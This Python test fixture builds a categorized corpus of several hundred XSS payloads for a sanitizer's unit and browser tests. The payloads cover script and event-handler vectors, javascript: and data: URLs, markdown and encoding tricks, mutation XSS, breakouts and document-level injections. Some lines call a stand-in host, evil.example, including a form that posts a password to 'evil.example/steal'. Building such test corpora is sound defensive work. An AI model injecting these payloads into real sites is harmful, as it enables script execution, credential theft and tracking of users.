"""A corpus of XSS payloads, built from the known classes, for tests/test_xss.py and tests/test_xss_browser.py.

Every payload that would run sets a global (``window.__xss``) or opens a dialog (``alert``,
``confirm``, ``prompt``), so a browser test can tell that it ran. Payloads are grouped by class:

- ``script``: script elements, spelled every way parsers accept;
- ``handler``: event-handler attributes on the elements that fire them without a user;
- ``scheme``: ``javascript:``, ``vbscript:`` and ``data:`` URLs (mixed case, whitespace, entities,
  control characters) in every URL-bearing attribute;
- ``markdown``: inline, reference-style and autolinks, images, attribute injection through link
  titles and destinations, code spans and fences, footnotes, headings (the table of contents);
- ``encoding``: HTML entities, URL encoding, unicode escapes, full-width forms, UTF-7, null bytes;
- ``nesting``: broken nesting, unclosed tags and attributes, comments, CDATA;
- ``mxss``: SVG/MathML namespace confusion, ``<template>``, ``<noscript>``, ``<noembed>``, ``<xmp>``;
- ``breakout``: ``</script>`` (JSON-LD), ``</textarea>``, ``</title>``, ``</style>`` and attribute
  breakouts (``" onmouseover=``);
- ``css``: ``expression()``, ``url(javascript:)``, ``@import``, ``<link>``;
- ``document``: ``<base href>``, ``<meta http-equiv=refresh>``, ``<form action>``, ``formaction``,
  ``<iframe src/srcdoc>``, ``<object>``, ``<embed>``, ``<frameset>``;
- ``context``: core vectors placed inside markdown structures (lists, tables, quotes, headings, links).
"""

from __future__ import annotations

from dataclasses import dataclass

JS = "window.__xss=1"
ALERT = "alert(1)"


@dataclass(frozen=True)
class Payload:
    id: str
    kind: str
    text: str


def _build() -> list[Payload]:
    out: list[Payload] = []
    seen: set[str] = set()

    def add(kind: str, text: str) -> None:
        if text not in seen:
            seen.add(text)
            out.append(Payload(id=f"{kind}-{sum(1 for p in out if p.kind == kind) + 1:03d}", kind=kind, text=text))

    # ------------------------------------------------------------ script elements
    for text in [
        f"<script>{JS}</script>",
        f"<SCRIPT>{JS}</SCRIPT>",
        f"<ScRiPt>{ALERT}</sCrIpT>",
        f"<script >{JS}</script >",
        f"<script\n>{JS}</script\n>",
        f"<script/x>{JS}</script>",
        f"<script type=module>{JS}</script>",
        f"<script type=text/javascript>{JS}</script>",
        f"<script src=data:,{JS}></script>",
        "<script src=//evil.example/x.js></script>",
        f"<scr<script>ipt>{JS}</scr</script>ipt>",
        f"<<script>script>{JS}<</script>/script>",
        f"<script>{JS}",
        f"<script>/*</script>*/{JS}</script>",
        f"<script>{JS}<!--</script>",
        f"<svg><script>{JS}</script></svg>",
        f'<svg><script href="data:,{JS}"/></svg>',
        f"<math><script>{JS}</script></math>",
        "<script>confirm(1)</script>",
        "<script>prompt(1)</script>",
        "<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>",
        f"<script>setTimeout('{JS}')</script>",
    ]:
        add("script", text)

    # ------------------------------------------------------------ event handlers
    for text in [
        f"<img src=x onerror={JS}>",
        f'<img src="x" onerror="{JS}">',
        f"<IMG SRC=x ONERROR={ALERT}>",
        f"<img src=x onerror\n={JS}>",
        f"<img src=x/onerror={JS}>",
        f"<img/src=x/onerror={JS}>",
        f"<img src=x onerror=`{JS}`>",
        f"<img src onerror={JS}>",
        f"<img src=x:x onerror={JS}>",
        "<img src=x onerror=&#119;indow.__xss=1>",
        "<img src=x onerror=&#x77;&#x69;ndow.__xss=1>",
        f"<img src=x one\x0brror={JS}>",
        f"<svg onload={JS}>",
        f"<svg/onload={JS}>",
        f"<svg><g onload={JS}></g></svg>",
        f"<body onload={JS}>",
        f"<input autofocus onfocus={JS}>",
        f"<select autofocus onfocus={JS}></select>",
        f"<textarea autofocus onfocus={JS}></textarea>",
        f"<details open ontoggle={JS}>",
        f"<video><source onerror={JS}></video>",
        f"<audio src=x onerror={JS}>",
        f"<video src=x onerror={JS}>",
        f"<iframe onload={JS}></iframe>",
        f"<marquee onstart={JS}>x</marquee>",
        f"<div onmouseover={JS}>hover</div>",
        f"<a onclick={JS} href=#>click</a>",
        f"<p onpointerenter={JS}>x</p>",
        f"<style onload={JS}></style>",
        f"<link rel=stylesheet href=x onerror={JS}>",
        f"<object data=x onerror={JS}></object>",
        f"<style>@keyframes k{{}}</style><div style=animation-name:k onanimationstart={JS}>",
        f"<div id=x tabindex=1 onfocus={JS}></div>",
        "<img src=x onerror=eval(String.fromCharCode(119,105,110,100,111,119,46,95,95,120,115,115,61,49))>",
        f'<img src=x onerror="javascript:{JS}">',
        f"<body onpageshow={JS}>",
        f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
        f"<svg><set onbegin={JS} attributename=x to=1>",
        f"<image src=x onerror={JS}>",
        "<img src=x onerror=top['__xss']=1>",
    ]:
        add("handler", text)

    # ------------------------------------------------------------ URL schemes
    schemes = [
        f"javascript:{JS}",
        f"JaVaScRiPt:{JS}",
        f" javascript:{JS}",
        f"java\tscript:{JS}",
        f"java&#x09;script:{JS}",
        f"java&#10;script:{JS}",
        f"&#106;avascript:{JS}",
        f"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{JS}",
        f"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{JS}",
        f"javascript&colon;{JS}",
        f"javascript&#58;{JS}",
        f"\x01javascript:{JS}",
        f"javascript://%0a{JS}",
        f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{JS}//'>",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        f"data:text/html,<script>{JS}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
        f"DATA:text/html,<script>{JS}</script>",
        f"data:image/svg+xml,<svg onload={JS}>",
        f"livescript:{JS}",
    ]
    for url in schemes:
        add("scheme", f'<a href="{url}">click</a>')
    for url in schemes[:6] + schemes[14:18]:
        add("scheme", f'<img src="{url}">')
        add("scheme", f'<iframe src="{url}"></iframe>')
    for template in [
        '<form action="{u}"><button>go</button></form>',
        '<form><button formaction="{u}">go</button></form>',
        '<svg><a xlink:href="{u}"><text y=20>click</text></a></svg>',
        '<math href="{u}">click</math>',
        '<object data="{u}"></object>',
        '<embed src="{u}">',
        '<area href="{u}">',
        '<input type=image formaction="{u}" src=x>',
        '<a href="{u}" target=_blank>new tab</a>',
    ]:
        add("scheme", template.format(u=f"javascript:{JS}"))

    # ------------------------------------------------------------ markdown tricks
    for text in [
        f"[x](javascript:{JS})",
        f"[x](JaVaScRiPt:{JS})",
        f"[x](<javascript:{JS}>)",
        f'[x](javascript:{JS} "title")',
        f"[x](javascript&#58;{JS})",
        f"[x](&#106;avascript:{JS})",
        f"[x](java%0ascript:{JS})",
        f"[x]( javascript:{JS})",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
        f"[x][r]\n\n[r]: javascript:{JS}",
        f'[x][r]\n\n[r]: <javascript:{JS}> "t"',
        f"[r]\n\n[r]: JAVASCRIPT:{JS}",
        f"<javascript:{JS}>",
        f"<JavaScript:{JS}>",
        "<vbscript:msgbox(1)>",
        f"<data:text/html,<script>{JS}</script>>",
        f"![x](javascript:{JS})",
        f'![x](" onerror="{JS})',
        f'![x](x" onerror="{JS})',
        f"![x](x' onerror='{JS})",
        f'![x" onerror="{JS}](x)',
        f'![x](x "title\\" onerror=\\"{JS}")',
        f'[x](" onmouseover="{JS})',
        f'[x](#" onclick="{JS})',
        f'[x](https://example.org "t\\" onmouseover=\\"{JS}")',
        f"[![x](x)](javascript:{JS})",
        f"[<img src=x onerror={JS}>](https://example.org)",
        f"[x](https://example.org)<img src=x onerror={JS}>",
        f"`<script>{JS}</script>`",
        f"```\n<script>{JS}</script>\n```",
        f"```html\n</code></pre><script>{JS}</script>\n```",
        f"```\n<script>{JS}</script>",
        f"    <script>{JS}</script>",
        f"Text[^1]\n\n[^1]: <script>{JS}</script>",
        f"Text[^<img src=x onerror={JS}>]\n\n[^<img src=x onerror={JS}>]: note",
        f"## <img src=x onerror={JS}>",
        f"## x <script>{JS}</script>",
        f'## Heading {{#x" onmouseover="{JS}}}',
        f"# <svg onload={JS}>",
        f"| a | b |\n|---|---|\n| <img src=x onerror={JS}> | [x](javascript:{JS}) |",
        f"> <script>{JS}</script>",
        f"- <img src=x onerror={JS}>\n- [x](javascript:{JS})",
        f"*<img src=x onerror={JS}>*",
        f"__[x](javascript:{JS})__",
        f'<div markdown="1">[x](javascript:{JS})</div>',
        f"[x](javascript:{JS}\n)",
        f"[x](javas\ncript:{JS})",
        f"[x]:javascript:{JS}\n\n[x]",
        f'<https://example.org/"onmouseover="{JS}>',
        f"https://example.org/<script>{JS}</script>",
        f'[x](https://example.org/"><script>{JS}</script>)',
    ]:
        add("markdown", text)

    # ------------------------------------------------------------ encodings
    for text in [
        f"&lt;script&gt;{JS}&lt;/script&gt;",
        f"&#60;script&#62;{JS}&#60;/script&#62;",
        f"&#x3C;img src=x onerror={JS}&#x3E;",
        f"&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;",
        f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{JS}\\x3c/script\\x3e",
        f"%3Cscript%3E{JS}%3C/script%3E",
        f"%253Cscript%253E{JS}%253C/script%253E",
        f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
        f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
        f"\u00bcscript\u00be{JS}\u00bc/script\u00be",
        f"<scr\x00ipt>{JS}</scr\x00ipt>",
        f"<img src=x on\x00error={JS}>",
        f"java\x00script:{JS}",
        "<img src=x onerror=\\u0061lert(1)>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
        "<img src=x onerror=&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
        f'<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a{JS}">x</a>',
        f'<a href="javascript%3A{JS}">x</a>',
        f"<img src=x onerror=\u2028{JS}>",
        f"\u202e<script>{JS}</script>",
        f"<\u0131mg src=x onerror={JS}>",
        f"<ſcript>{JS}</ſcript>",
        f"\ufeff<script>{JS}</script>",
    ]:
        add("encoding", text)

    # ------------------------------------------------------------ broken nesting, unclosed, comments, CDATA
    for text in [
        f"<img src=x onerror={JS}",
        f'<img src="x" onerror="{JS}',
        f'<a href="javascript:{JS}"',
        f"<b><i>x</b></i><img src=x onerror={JS}>",
        f"<p><table><tr><td><script>{JS}</script>",
        f"<table><img src=x onerror={JS}></table>",
        f"<select><style></select><img src=x onerror={JS}></style>",
        f"<!-- --><script>{JS}</script>",
        f'<!--<img src="--><img src=x onerror={JS}>">',
        f"<!--><script>{JS}</script>-->",
        f"<!---><img src=x onerror={JS}>-->",
        f"<!-- --!><img src=x onerror={JS}>-->",
        f"<![CDATA[<script>{JS}</script>]]>",
        f'<svg><![CDATA[><image xlink:href="]]><img src=x onerror={JS}>">]]></svg>',
        f"<?xml version=1.0?><img src=x onerror={JS}>",
        f"<!DOCTYPE html><img src=x onerror={JS}>",
        f"</p></div></article></main><script>{JS}</script>",
        f"<div><div><div><div><img src=x onerror={JS}>",
        f"<a href=x>unclosed <img src=x onerror={JS}>",
        f"<img src=x onerror={JS} <b>",
        f'<img src="x"\nonerror="{JS}">',
        f"<img src=x onerror={JS}//",
        f"<</p>iframe src=javascript:{JS}>",
        f"<<img src=x onerror={JS}>>",
    ]:
        add("nesting", text)

    # ------------------------------------------------------------ mXSS, namespaces, inert containers
    for text in [
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={JS}&gt;">',
        f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
        f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror={JS}>"></style></h1>',
        f"<svg><style><img src=x onerror={JS}></style></svg>",
        f"<math><style><img src=x onerror={JS}></style></math>",
        f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
        f'<math><annotation-xml encoding="text/html"><img src=x onerror={JS}></annotation-xml></math>',
        f"<template><img src=x onerror={JS}></template>",
        f"<template><script>{JS}</script></template>",
        f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
        f'<noembed><img title="</noembed><img src=x onerror={JS}>"></noembed>',
        f'<noframes><img title="</noframes><img src=x onerror={JS}>"></noframes>',
        f'<xmp><img title="</xmp><img src=x onerror={JS}>"></xmp>',
        f'<iframe><img title="</iframe><img src=x onerror={JS}>"></iframe>',
        f"<plaintext><img src=x onerror={JS}>",
        f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
        f"<svg><desc><img src=x onerror={JS}></desc></svg>",
        f"<svg><title><img src=x onerror={JS}></title></svg>",
        f'<math><mi xlink:href="javascript:{JS}">x</mi></math>',
        f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={JS} /></svg>#x" />',
        f"<svg><a><animate attributeName=href values=javascript:{JS} /><text y=20>x</text></a></svg>",
        f"<svg><discard onbegin={JS}>",
        f"<keygen autofocus onfocus={JS}>",
        f"<frameset onload={JS}>",
        f"<isindex action=javascript:{JS} type=image>",
    ]:
        add("mxss", text)

    # ------------------------------------------------------------ breakouts
    for text in [
        f"</script><script>{JS}</script>",
        f"</SCRIPT><img src=x onerror={JS}>",
        f"</script ><img src=x onerror={JS}>",
        f"</script/x><img src=x onerror={JS}>",
        f'"}}</script><script>{JS}</script>',
        f"<!--<script>{JS}</script>-->",
        f"\u2028\u2029</script><script>{JS}</script>",
        f"</textarea><script>{JS}</script>",
        f"</textarea><img src=x onerror={JS}>",
        f"</title><script>{JS}</script>",
        f"</title><img src=x onerror={JS}>",
        f"</style><script>{JS}</script>",
        f"</noscript><img src=x onerror={JS}>",
        f"</pre><script>{JS}</script>",
        f"</code></pre><img src=x onerror={JS}>",
        f'" onmouseover="{JS}',
        f"' onmouseover='{JS}",
        f'"><script>{JS}</script>',
        f"'><img src=x onerror={JS}>",
        f'" autofocus onfocus="{JS}" x="',
        f'"/><svg onload={JS}>',
        f"` onmouseover={JS} `",
        f'" style="animation-name:k" onanimationstart="{JS}',
        f'"><meta http-equiv="refresh" content="0;url=javascript:{JS}">',
        f'" href="javascript:{JS}',
        f'" onfocus="{JS}" autofocus="',
        f"{{{{ 7|add:7 }}}}{{% debug %}}${{{JS}}}",
    ]:
        add("breakout", text)

    # ------------------------------------------------------------ CSS
    for text in [
        f'<div style="width:expression({JS})">x</div>',
        f'<div style="background:url(javascript:{JS})">x</div>',
        f'<div style="background-image:url(&quot;javascript:{JS}&quot;)">x</div>',
        f"<style>body{{background:url('javascript:{JS}')}}</style>",
        f"<style>@import 'javascript:{JS}';</style>",
        f"<style>*{{x:expression({JS})}}</style>",
        f'<link rel=stylesheet href="javascript:{JS}">',
        f'<link rel=import href="data:text/html,<script>{JS}</script>">',
        f'<p style="behavior:url(#default#time2)" onbegin="{JS}">x</p>',
        '<div style="-moz-binding:url(//evil.example/x.xml#xss)">x</div>',
        f'<span style="x:\\65 xpression({JS})">x</span>',
    ]:
        add("css", text)

    # ------------------------------------------------------------ base, meta, forms, frames, objects
    for text in [
        f'<base href="javascript:{JS}//">',
        '<base href="https://evil.example/">',
        f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
        f'<meta http-equiv=refresh content="0; url=data:text/html,<script>{JS}</script>">',
        '<meta http-equiv="Content-Security-Policy" content="script-src *">',
        '<meta http-equiv="set-cookie" content="session=evil">',
        '<meta charset="UTF-7">',
        f'<form action="javascript:{JS}"><input type=submit></form>',
        '<form action="https://evil.example/steal" method=post><input name=password></form>',
        f'<iframe src="javascript:{JS}"></iframe>',
        f'<iframe srcdoc="&lt;script&gt;parent.{JS}&lt;/script&gt;"></iframe>',
        f'<iframe srcdoc="<img src=x onerror=parent.{JS}>"></iframe>',
        '<iframe src="https://evil.example/"></iframe>',
        f'<object data="data:text/html,<script>{JS}</script>"></object>',
        f'<object type="text/x-scriptlet" data="javascript:{JS}"></object>',
        f'<embed src="data:text/html,<script>{JS}</script>">',
        f'<embed code="javascript:{JS}">',
        f'<applet code="javascript:{JS}"></applet>',
        f'<frameset><frame src="javascript:{JS}"></frameset>',
        f'<portal src="javascript:{JS}"></portal>',
        '<a href="https://example.org" ping="https://evil.example/">x</a>',
        '<img src="https://evil.example/track.gif" srcset="https://evil.example/a.png 1x">',
        f'<img srcset="javascript:{JS} 1x">',
        f'<button form=f formaction="javascript:{JS}">x</button>',
    ]:
        add("document", text)

    # ------------------------------------------------------------ core vectors in markdown contexts
    cores = [
        f"<img src=x onerror={JS}>",
        f"<script>{JS}</script>",
        f"<svg onload={JS}>",
        f'<a href="javascript:{JS}">x</a>',
        f'<iframe srcdoc="<script>parent.{JS}</script>">',
    ]
    contexts = [
        "Intro paragraph.\n\n{p}\n\nAfter.",
        "- item one\n- {p}",
        "1. {p}",
        "> quoted {p}",
        "| h |\n|---|\n| {p} |",
        "### {p}",
        "**{p}**",
        "Term\n: {p}",
    ]
    for core in cores:
        for context in contexts:
            add("context", context.format(p=core))
    return out


PAYLOADS: list[Payload] = _build()

#: Substrings that must never reach a browser as live markup (used by the browser tests' reports).
SENTINEL = "__xss"
